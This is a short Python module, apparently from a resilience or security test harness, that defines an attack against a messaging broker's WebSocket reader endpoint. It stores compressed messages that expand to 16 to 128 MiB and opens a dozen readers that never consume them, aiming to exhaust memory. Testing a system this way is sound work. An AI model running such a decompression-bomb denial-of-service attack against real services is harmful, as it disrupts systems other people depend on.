"""Readers over WebSocket of messages that are large once uncompressed, and that nobody takes."""

from __future__ import annotations

import time

from target import OWN, Target, path_of

TOPIC = f"{OWN}-read"
MIB = 1 << 20
_READERS = 12
_SECONDS = 8.0


def attack(target: Target) -> None:
    target.store_bombs(TOPIC, 16 * MIB, 16 * MIB, 128 * MIB)
    target.store_bombs(f"{TOPIC}-more", 128 * MIB, 128 * MIB)
    opened = []
    for topic in (TOPIC, f"{TOPIC}-more"):
        path = f"reader/{path_of(topic)}?messageId=earliest"
        opened += [target.web_socket(path, "a-user") for _ in range(_READERS // 2)]
    time.sleep(_SECONDS)
    for one in opened:
        one.sock.close()
